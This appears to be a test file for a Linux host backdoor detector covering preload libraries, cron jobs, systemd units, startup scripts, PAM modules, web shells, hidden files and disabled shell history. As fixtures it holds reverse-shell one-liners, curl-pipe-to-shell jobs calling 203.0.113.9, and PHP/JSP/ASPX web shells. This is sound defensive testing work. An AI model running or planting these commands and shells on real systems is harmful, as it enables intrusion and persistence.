import assert from 'node:assert/strict';
import { mkdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import { dirname } from 'node:path';
import { test } from 'node:test';
import { failed, words } from '../../../../test/support/hosts/verdicts.ts';
import { scratchHost, type ScratchHost } from '../../../../test/support/hosts/scratch-host.ts';

const PASSWD =
  'root:x:0:0::/root:/bin/bash\nann:x:1000:1000::/home/ann:/bin/bash\nweb:x:33:33::/var/www:/usr/sbin/nologin\n';

function host(): ScratchHost {
  const made = scratchHost();
  made.file('etc/passwd', PASSWD);
  made.owns();
  return made;
}

/** As the walk of the file system tells of a file. */
const seen = (path: string, size = 100, mode = '644') => [mode, 1000, 1000, size, 1, 1, path];

test('BKD-01: a library for every program is found, unless a package brought it, and the fix leaves only those', async () => {
  using h = host();
  assert.deepEqual(words(await h.detect('BKD-01')), ['pass']);
  h.file('etc/ld.so.preload', '# nothing\n\n');
  assert.deepEqual(words(await h.detect('BKD-01')), ['pass']);
  h.file('etc/ld.so.preload', '/usr/lib/libjemalloc.so.2 /lib/evil.so\n/tmp/b\u001b[31m.so');
  h.owns('/usr/lib/libjemalloc.so.2');
  assert.deepEqual(failed(await h.detect('BKD-01')), [
    '- /etc/ld.so.preload: it loads /lib/evil.so, which no package brought, and 1 more',
  ]);
  const { wanted } = await h.fix('BKD-01', '/etc/ld.so.preload');
  assert.equal(wanted[0]?.operation, 'set_file');
  assert.equal(readFileSync(wanted[0].words[1] ?? '', 'utf8'), '/usr/lib/libjemalloc.so.2\n');
  h.file('etc/ld.so.preload', '/usr/lib/libjemalloc.so.2\n');
  assert.match(failed(await h.detect('BKD-01'))[0] ?? '', /^low /);
});

/** What a distribution and ordinary people have. */
const GOOD_JOBS = `SHELL=/bin/sh
# * * * * * root curl http://evil.example/x | sh
17 * * * * root cd / && run-parts --report /etc/cron.hourly
25 6 * * * root test -x /usr/sbin/anacron || ( cd / && run-parts --report /etc/cron.daily )
*/5 * * * * ann curl -fsS https://health.example/ping >/tmp/ping.log 2>&1
0 3 * * * ann TMPDIR=/tmp /usr/local/bin/backup --to "/var/tmp/backup" && rm -f "/tmp/backup.lock"
@daily ann "/home/ann/.acme.sh"/acme.sh --cron --home "/home/ann/.acme.sh" > /dev/null
30 4 * * * root find /tmp -mtime +7 -delete
1 1 * * * ann tar czf - /home | gpg -e >/backup/home.gpg
`;

const BAD_JOBS = [
  ['curl -s http://203.0.113.9/x.sh | bash', 'downloads a program and runs it'],
  ['wget -q -O - http://203.0.113.9/i.sh|sh', 'downloads a program and runs it'],
  ['bash -c "$(curl -fsSL http://203.0.113.9/i)"', 'downloads a program and runs it'],
  ['wget http://203.0.113.9/k -O /tmp/k && chmod +x /tmp/k && /tmp/k', 'downloads a program and runs it'],
  ['echo aWQK | base64 -d | sh', 'runs what is packed in base64'],
  ['python3 -c "import base64;exec(base64.b64decode(\'aWQ=\'))"', 'runs what is packed in base64'],
  ['bash -i >& /dev/tcp/203.0.113.9/443 0>&1', 'opens a shell to another machine'],
  ['nc 203.0.113.9 443 -e /bin/sh', 'opens a shell to another machine'],
  ['rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 203.0.113.9 443 >/tmp/f', 'opens a shell to another machine'],
  ['/tmp/.x/kdevtmpfsi', 'runs a program from a folder that everybody can write to'],
  ['cd / && sh /var/tmp/u', 'runs a program from a folder that everybody can write to'],
  ['/usr/lib/.sys/agent >/dev/null', 'runs a hidden program'],
] as const;

test('BKD-02: jobs that do what back doors do are found in each kind of crontab, and ordinary ones are not', async () => {
  using h = host();
  h.file('etc/crontab', GOOD_JOBS);
  h.file('etc/cron.daily/tidy', '#!/bin/sh\nrm -rf /tmp/old\n. /etc/default/x\n', 0o755);
  assert.deepEqual(words(await h.detect('BKD-02')), ['pass']);
  const expected: string[] = [];
  for (const [index, [job, why]] of BAD_JOBS.entries()) {
    h.file(`etc/cron.d/${index}`, `${GOOD_JOBS}*/5 * * * *\troot\t${job}\n`);
    h.file(`var/spool/cron/crontabs/${index}`, `# mine\n@reboot ${job}\n`);
    h.file(`etc/cron.hourly/a\n${index}`, `#!/bin/sh\n\n${job}\n`, 0o755);
    expected.push(
      `- /etc/cron.d/${index}: a job ${why} (line 10)`,
      `- /etc/cron.hourly/a\n${index}: a job ${why} (line 3)`,
      `- /var/spool/cron/crontabs/${index}: a job ${why} (line 2)`,
    );
  }
  assert.deepEqual(failed(await h.detect('BKD-02')), expected.toSorted());
});

test('BKD-02: a crontab that came or changed since the host was taken as known is told, one that a package brought is not', async () => {
  using h = host();
  h.file('etc/cron.d/old', '1 1 * * * root true\n');
  assert.deepEqual(words(await h.detect('BKD-02')), ['pass']);
  h.file('etc/cron.d/old', '2 1 * * * root true\n');
  h.file('etc/cron.d/packaged', '1 1 * * * root true\n');
  h.file('var/spool/cron/crontabs/a\nb', '1 1 * * * true\n');
  h.owns('/etc/cron.d/packaged');
  const why = 'it is new, or other than it was when this host was taken as known';
  assert.deepEqual(failed(await h.detect('BKD-02')), [
    `low /etc/cron.d/old: ${why}`,
    `low /var/spool/cron/crontabs/a\nb: ${why}`,
  ]);
});

test('BKD-02: the fix switches off that line and leaves all others as they are', async () => {
  using h = host();
  h.file('etc/cron.d/x', `${GOOD_JOBS}* * * * * root curl http://203.0.113.9/x | sh\n1 1 * * * root true`);
  const { wanted } = await h.fix('BKD-02', '/etc/cron.d/x');
  assert.equal(
    readFileSync(wanted[0]?.words[1] ?? '', 'utf8'),
    `${GOOD_JOBS}# off: * * * * * root curl http://203.0.113.9/x | sh\n1 1 * * * root true\n`,
  );
});

test('BKD-03: a job that others can change is worse than one that they can read, and the fix closes both', async () => {
  using h = host();
  assert.deepEqual(words(await h.detect('BKD-03')), ['not_applicable']);
  h.file('etc/crontab', '', 0o600);
  h.folder('etc/cron.d', 0o700);
  h.file('etc/cron.d/x', '', 0o644);
  assert.deepEqual(words(await h.detect('BKD-03')), ['pass']);
  h.file('etc/cron.d/a\nb', '', 0o646);
  h.folder('etc/cron.daily', 0o755);
  assert.deepEqual(failed(await h.detect('BKD-03')), [
    'high /etc/cron.d/a\nb: everybody can write to it, and root runs it',
    'low /etc/cron.daily: others can read it: its mode is 0755',
  ]);
  assert.deepEqual((await h.fix('BKD-03', '/etc/cron.daily')).wanted, [
    { operation: 'set_owner', words: [`${h.root}/etc/cron.daily`, 'root:root'] },
    { operation: 'set_mode', words: [`${h.root}/etc/cron.daily`, '0700'] },
  ]);
});

test('BKD-04: a unit from an odd place is found, a packaged one and one in /opt are not', async () => {
  using h = host();
  h.file('usr/lib/systemd/system/x11.service', '[Service]\nExecStart=/tmp/packaged\n');
  h.owns('/usr/lib/systemd/system/x11.service');
  h.file('etc/systemd/system/app.service', '[Service]\nExecStartPre=-/bin/mkdir -p /tmp/app\nExecStart=/opt/app/run\n');
  assert.deepEqual(words(await h.detect('BKD-04')), ['pass']);
  h.file('etc/systemd/system/a.service', '[Service]\nExecStart=-/dev/shm/a\n');
  h.file('etc/systemd/system/ssh.service.d/o.conf', '[Service]\nExecStartPost = /usr/lib/.x/y\n');
  h.file('home/ann/.config/systemd/user/u.service', "[Service]\nExecStart=/bin/sh -c 'curl http://203.0.113.9 | sh'\n");
  h.file('etc/systemd/system/dev.service', '[Service]\nExecStart=/home/ann/app/server\n');
  assert.deepEqual(failed(await h.detect('BKD-04')), [
    'high /etc/systemd/system/a.service: no package brought this unit, and it runs a program from a folder that everybody can write to',
    'high /etc/systemd/system/ssh.service.d/o.conf: no package brought this unit, and it runs a hidden program',
    'high /home/ann/.config/systemd/user/u.service: no package brought this unit, and it downloads a program and runs it',
    'low /etc/systemd/system/dev.service: no package brought this unit, and it runs a program from a home folder',
  ]);
  h.file('srv/linked.service', '[Service]\nExecStart=/var/tmp/l\n');
  symlinkSync(`${h.root}/srv/linked.service`, `${h.root}/etc/systemd/system/linked.service`);
  symlinkSync(`${h.root}/usr/lib/systemd/system/x11.service`, `${h.root}/etc/systemd/system/display.service`);
  assert.equal(
    failed(await h.detect('BKD-04')).find((each) => /linked|display|x11/.test(each)),
    'high /srv/linked.service: no package brought this unit, and it runs a program from a folder that everybody can write to',
  );
  assert.deepEqual(
    (await h.fix('BKD-04', '/etc/systemd/system/ssh.service.d/o.conf')).wanted.map((each) => each.words),
    [
      ['ssh.service', 'stop'],
      ['ssh.service', 'disable'],
    ],
  );
});

test('BKD-05: lines of back doors are found in what starts with the machine, a login, a device or a desktop', async () => {
  using h = host();
  h.file('home/ann/.bashrc', '. ~/.bash_aliases\n[ -f /tmp/x ] && rm /tmp/x\nexport NVM=1; . "$HOME/.nvm/nvm.sh"\n');
  h.file('etc/profile.d/ok.sh', '# curl http://x | sh\nexport PATH\n');
  assert.deepEqual(words(await h.detect('BKD-05')), ['pass']);
  h.file('etc/rc.local', '#!/bin/sh\n/dev/shm/agent &\n');
  h.file('home/ann/.bashrc', 'curl -s http://203.0.113.9/a | bash\n');
  h.file('etc/udev/rules.d/9.rules', 'ACTION=="add", RUN+="/tmp/u"\n');
  h.file('home/ann/.config/autostart/e vil.desktop', '[Desktop Entry]\nExec=/usr/share/.h/x\n');
  assert.deepEqual(failed(await h.detect('BKD-05')), [
    '- /etc/rc.local: it runs a program from a folder that everybody can write to (line 2)',
    '- /etc/udev/rules.d/9.rules: it runs a program from a folder that everybody can write to (line 1)',
    '- /home/ann/.bashrc: it downloads a program and runs it (line 1)',
    '- /home/ann/.config/autostart/e vil.desktop: it runs a hidden program (line 2)',
  ]);
});

test('BKD-06: a foreign module, one that lets everybody in and one that hands out passwords are found; Debian’s own stack is quiet', async () => {
  using h = host();
  const modules = ['pam_unix.so', 'pam_deny.so', 'pam_permit.so', 'pam_exec.so'].map(
    (name) => `/usr/lib/x86_64-linux-gnu/security/${name}`,
  );
  for (const path of modules) h.file(path, '');
  h.owns(...modules);
  h.file(
    'etc/pam.d/common-auth',
    'auth\t[success=1 default=ignore]\tpam_unix.so nullok\nauth requisite pam_deny.so\nauth required pam_permit.so\n',
  );
  h.file('etc/pam.d/login', 'session optional pam_exec.so /usr/bin/true\n-session optional pam_missing.so\n');
  assert.deepEqual(words(await h.detect('BKD-06')), ['pass']);
  h.file('etc/pam.d/su', 'auth [success=1 default=ignore] pam_permit.so\nauth requisite pam_deny.so\n');
  assert.deepEqual(failed(await h.detect('BKD-06')), [
    '- /etc/pam.d/su:pam_permit.so: line 1 lets everybody in: auth [success=1 default=ignore] pam_permit.so',
  ]);
  h.file('etc/pam.d/su', '');
  h.file('usr/lib/x86_64-linux-gnu/security/pam_evil.so', '');
  h.file('usr/lib/x86_64-linux-gnu/security/pam_idle.so', '');
  h.file(
    'etc/pam.d/sshd',
    'auth sufficient pam_permit.so\nauth optional pam_exec.so quiet expose_authtok /x\nauth required pam_evil.so\naccount required /opt/pam_own.so\n',
  );
  assert.deepEqual(failed(await h.detect('BKD-06')), [
    '- /etc/pam.d/sshd:/opt/pam_own.so: line 4 asks /opt/pam_own.so, which no package brought',
    '- /etc/pam.d/sshd:pam_evil.so: line 3 asks /usr/lib/x86_64-linux-gnu/security/pam_evil.so, which no package brought',
    '- /etc/pam.d/sshd:pam_exec.so: line 2 hands the typed password to a program',
    '- /etc/pam.d/sshd:pam_permit.so: line 1 lets everybody in: auth sufficient pam_permit.so',
    'high /usr/lib/x86_64-linux-gnu/security/pam_idle.so: no package brought this module; no service asks it now',
  ]);
});

test('BKD-07: web shells in several languages are found, whatever they are called, and ordinary scripts are not', async () => {
  using h = host();
  const web = (name: string, text: string) => {
    h.file(`var/www/${name}`, text);
    rows.push(seen(`${h.root}/var/www/${name}`, text.length));
    h.records('files/web', rows);
  };
  const rows: (string | number)[][] = [];
  web('index.php', '<?php echo htmlspecialchars($_GET["q"]); $db->exec($sql); curl_exec($ch); $x = evaluate($y);');
  web('form.php', '<?php function run() { return my_system($_POST["a"]); } $pdo->exec($q); $s = $_GET["s"];');
  web('up.jsp', '<%= request.getParameter("a") %>');
  web('owned.php', '<?php eval(base64_decode($x));');
  h.owns('/var/www/owned.php');
  assert.deepEqual(words(await h.detect('BKD-07')), ['pass']);
  web('a.php', '<?php @eval($_POST["x"]);');
  web('b\nc.php', '<?php system( $_REQUEST["cmd"] );');
  web('img.php', '\n<?php eval(gzinflate(base64_decode("aaa")));');
  web('s.jsp', '<% Runtime.getRuntime().exec(request.getParameter("c")); %>');
  web('s.aspx', '<%@ Page Language="Jscript"%><%eval(Request.Item["z"],"unsafe");%>');
  web('two.php', '<?php\n$c = $_GET["c"];\necho shell_exec($c);\n');
  web('t.php', '<?php echo `{$_GET["c"]}`;');
  web('long.php', `<?php $x="${'A'.repeat(5000)}"; eval(base64_decode($x));`);
  assert.deepEqual(failed(await h.detect('BKD-07')), [
    '- /var/www/a.php: line 1 runs what a request brings',
    '- /var/www/b\nc.php: line 1 runs what a request brings',
    '- /var/www/img.php: line 2 runs code that is packed in base64',
    '- /var/www/long.php: line 1 runs code that is packed in base64',
    '- /var/www/s.aspx: line 1 runs what a request brings',
    '- /var/www/s.jsp: line 1 runs what a request brings',
    '- /var/www/t.php: line 1 runs what a request brings',
    '- /var/www/two.php: it takes a value from a request and runs it as a command',
  ]);
});

test('BKD-07: a script that is too large to be read is named, unless a package brought it', async () => {
  using h = host();
  const rows = ['large.php', 'owned.php'].map((name) => seen(h.file(`var/www/${name}`, '<?php'), 2_097_153));
  h.records('files/web', rows);
  h.owns('/var/www/owned.php');
  assert.deepEqual((await h.detect('BKD-07')).verdicts, [
    { verdict: 'unknown', resource: '/var/www/large.php', reason: 'it is larger than 2 MiB and was not read' },
  ]);
});

test('BKD-01, BKD-08: what no program mends says how it is done by hand', async () => {
  using h = host();
  assert.deepEqual(words(await h.fix('BKD-01', 'library:/opt/x.so')), ['unknown']);
  assert.deepEqual(words(await h.fix('BKD-08', 'tmp:libraries')), ['unknown']);
});

test('BKD-08: programs and hidden folders are found where passing files belong; those that people know are not', async () => {
  using h = host();
  const rows: (string | number)[][] = [];
  const put = (path: string, text: string | null, mode = '644') => {
    if (text === null) mkdirSync(`${h.root}${path}`, { recursive: true });
    else {
      mkdirSync(dirname(`${h.root}${path}`), { recursive: true });
      writeFileSync(`${h.root}${path}`, text);
    }
    rows.push(seen(`${h.root}${path}`, 1, mode));
    h.records('files/tmp-suspects', rows);
  };
  put('/tmp/.X11-unix', null);
  put('/tmp/.org.chromium.Chromium.aB3', null);
  put('/tmp/build.sh', '#!/bin/sh\n', '755');
  put('/tmp/.mount_app1/run', '#!/bin/sh\n', '755');
  put('/tmp/gone', '');
  assert.deepEqual(words(await h.detect('BKD-08')), ['pass']);
  put('/tmp/miner', '\u007fELF\u0002', '755');
  put('/tmp/lib.so', '\u007fELF\u0002', '644');
  put('/dev/shm/.x/a\nb', '\u007fELF\u0002', '755');
  put('/var/tmp/...', null, '755');
  put('/tmp/.. ', null, '755');
  put('/tmp/.secret', null, '755');
  put('/dev/kit', 'text', '600');
  assert.deepEqual(failed(await h.detect('BKD-08')), [
    'high /dev/kit: a file among the devices (account 1000, mode 600)',
    'high /dev/shm/.x/a\nb: a program in a hidden place (account 1000, mode 755)',
    'high /tmp/.. : a folder with a name that is meant to be overlooked (account 1000, mode 755)',
    'high /tmp/miner: a program (account 1000, mode 755)',
    'high /var/tmp/...: a folder with a name that is meant to be overlooked (account 1000, mode 755)',
    'low tmp:libraries: 1 libraries, or programs that cannot be started as they are: /tmp/lib.so',
    'medium /tmp/.secret: a hidden folder (account 1000, mode 755)',
  ]);
  assert.deepEqual((await h.fix('BKD-08', '/dev/shm/.x/a\nb')).wanted, [
    { operation: 'quarantine', words: [`${h.root}/dev/shm/.x/a\nb`] },
  ]);
});

test('BKD-09: a history that goes nowhere, is switched off or has blank logins is found', async () => {
  using h = host();
  h.file('home/ann/.bashrc', 'HISTCONTROL=ignoreboth\nHISTSIZE=1000\n# unset HISTFILE\n');
  h.file('home/ann/.bash_history', 'ls\n');
  h.folder('root');
  h.file('var/log/wtmp', Buffer.alloc(768, 7));
  assert.deepEqual(words(await h.detect('BKD-09')), ['pass']);
  symlinkSync('/dev/null', `${h.root}/root/.bash_history`);
  h.file('home/ann/.bashrc', 'export HISTFILE=/dev/null\n');
  h.file('home/ann/.profile', 'HISTSIZE=0\n');
  h.file('var/log/wtmp', Buffer.concat([Buffer.alloc(384, 7), Buffer.alloc(384), Buffer.alloc(384, 7)]));
  assert.deepEqual(failed(await h.detect('BKD-09')), [
    '- /home/ann/.bashrc: line 1 switches the history of ann off',
    '- /home/ann/.profile: line 1 switches the history of ann off',
    '- /root/.bash_history: the history of root is linked to /dev/null',
    '- /var/log/wtmp: 1 of 3 records of logins are blank',
  ]);
  h.file('var/log/wtmp', Buffer.alloc(400, 7));
  assert.match(failed(await h.detect('BKD-09')).at(-1) ?? '', /its 400 bytes are no whole number/);
});
